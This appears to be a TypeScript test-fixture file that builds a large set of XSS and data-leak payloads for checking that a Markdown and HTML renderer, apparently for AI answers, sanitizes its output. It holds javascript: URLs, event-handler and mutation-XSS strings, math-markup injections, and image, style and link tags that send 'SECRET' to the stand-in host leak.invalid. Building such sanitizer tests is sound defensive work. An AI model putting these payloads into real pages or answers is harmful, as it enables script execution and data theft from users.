/** Where everything that gets out would go; no page may ever ask it for anything. */
export const foreignHost = 'leak.invalid'

const leak = `https://${foreignHost}/?q=SECRET`

/** Addresses that run something, or leak by being fetched. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  'javascript%3Aalert(1)',
  'javascript://%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/x',
  'feed:javascript:alert(1)',
  `//${foreignHost}/?q=SECRET`,
  `https:${foreignHost}/a.png`,
  `\\\\${foreignHost}\\a.png`,
  `https://img.allowed.test@${foreignHost}/a.png`,
  `https://img.allowed.test.${foreignHost}/a.png`,
  leak,
]

/** Every way in which Markdown names an address. */
const forms: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "t")`,
  (address) => `![x](${address})`,
  (address) => `![x](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}\n`,
  (address) => `![x][r]\n\n> [r]: <${address}> 't'\n`,
  (address) => `[1]\n\n[1]: ${address}\n`,
  (address) => `[![x](${address})](${address})`,
  (address) => `| a | b |\n|---|---|\n| [x](${address}) | ![y](${address}) |\n`,
  (address) => `- [x](${address})\n  - ![x](${address})\n`,
  (address) => `> # ![x](${address} '" onerror=alert(1) x="')\n`,
]

const html = [
  '<script>alert(1)</script>',
  '<script src=//leak.invalid/x.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  `<img src="${leak}">`,
  `<img srcset="${leak} 1x, ${leak}2 2x">`,
  `<picture><source srcset="${leak}"><img></picture>`,
  `<video poster="${leak}" src="${leak}" autoplay></video>`,
  `<audio src="${leak}" autoplay onerror=alert(1)></audio>`,
  `<object data="${leak}"></object>`,
  `<embed src="${leak}">`,
  `<iframe src="${leak}"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  `<link rel=stylesheet href="${leak}">`,
  `<link rel=dns-prefetch href="${leak}"><link rel=preload as=image href="${leak}">`,
  `<meta http-equiv=refresh content="0;url=${leak}">`,
  `<base href="${leak}">`,
  `<form action="${leak}"><button formaction=javascript:alert(1)>x</button></form>`,
  `<input type=image src="${leak}" onerror=alert(1)>`,
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  `<body background="${leak}">`,
  `<table background="${leak}"><tr><td>x</table>`,
  '<marquee onstart=alert(1)>x</marquee>',
  `<style>@import "${leak}"; * { background: url(${leak}) }</style>`,
  `<div style="background:url(${leak})">x</div>`,
  '<p style="animation:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  `<svg><image href="${leak}" xlink:href="${leak}"/></svg>`,
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  `<svg><use href="${leak}#x"/></svg>`,
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>',
  // What has passed sanitizers before: markup that changes its meaning when it is read again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "https://leak.invalid/">]>&y;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '\\<img src=x onerror=alert(1)\\>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜img src=x onerror=alert(1)＞',
  '<img src=x\u0000 onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  `<a ping="${leak}" href="/">x</a>`,
  '<x-element onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>',
  '<div popover=auto onbeforetoggle=alert(1)>x</div>',
]

/** HTML in every place that Markdown has for it. */
const places: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `A *claim ${markup}* [1]\n`,
  (markup) => `| a |\n|---|\n| ${markup} |\n`,
  (markup) => `- **one** ${markup}\n\n  <div>\n\n  *in* ${markup}\n\n  </div>\n`,
  (markup) => `\`\`\`html\n${markup}\n\`\`\`\n`,
]

const code = [
  '```js"><img src=x onerror=alert(1)>\nlet a\n```\n',
  '```<script>alert(1)</script>\nx\n```\n',
  '```constructor\nx\n```\n',
  '```__proto__\nx\n```\n',
  '``` onload=alert(1) \nx\n```\n',
  '~~~html\n</code></pre><img src=x onerror=alert(1)>\n~~~\n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is code to show
  '```js\n`${alert(1)}` /*</script><script>alert(1)//*/\n```\n',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```\n',
  '```css\n@import url(https://leak.invalid/a.css);\n```\n',
  '`<img src=x onerror=alert(1)>`',
  '``<script>`alert(1)`</script>``',
]

const math = [
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$$\\includegraphics{https://leak.invalid/a.png}$$\n',
  '$\\html@mathml{<img src=x onerror=alert(1)>}{x}$',
  '$\\htmlData{x=y}{z} \\htmlStyle{background:url(https://leak.invalid)}{a}$',
  '$\\style{background:url(https://leak.invalid/)}{x} \\class{"><script>alert(1)</script>}{y}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '\\(\\unicode{x3c}script\\unicode{x3e}\\)',
  '\\[\\begin{CD} <script>alert(1)</script> \\end{CD}\\]\n',
  '$\\color{red;background:url(https://leak.invalid)}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
]

/** All texts that an answer may bring along. */
export const payloads: readonly string[] = [
  ...addresses.flatMap((address) => forms.map((form) => form(address))),
  ...html.flatMap((markup) => places.map((place) => place(markup))),
  ...code,
  ...math,
]

/** What goes where texts are shown that are no Markdown: titles, snippets, suggestions, and addresses. */
export const plainPayloads: readonly string[] = [...addresses, ...html]
